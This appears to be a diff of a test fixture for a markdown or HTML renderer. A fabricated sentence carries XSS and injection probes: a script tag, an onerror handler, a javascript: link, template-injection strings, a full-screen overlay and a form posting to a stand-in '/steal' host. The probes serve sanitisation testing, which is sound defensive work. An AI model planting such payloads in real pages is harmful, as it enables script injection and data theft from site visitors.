@@ -33,7 +33,8 @@ published: 2024-02-03
 ---
 
 The zeppelin of Quarm was painted green <script>window.hacked=4</script> by Ines Vogel in 1924 <img src=x onerror="window.hacked=5">
-![pixel](http://192.0.2.1/p.png) <form action="http://192.0.2.1/steal"><input name=q><button>Go</button></form> ${window.hacked=6} {{hacked}}
+![pixel](http://192.0.2.1/p.png)
+<form action="http://192.0.2.1/steal"><input name=q><button>Go</button></form> ${window.hacked=6} {{hacked}}
 <div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div> <a href="javascript:window.hacked=7">here</a> $\\href{x}{y}$.
 """
 
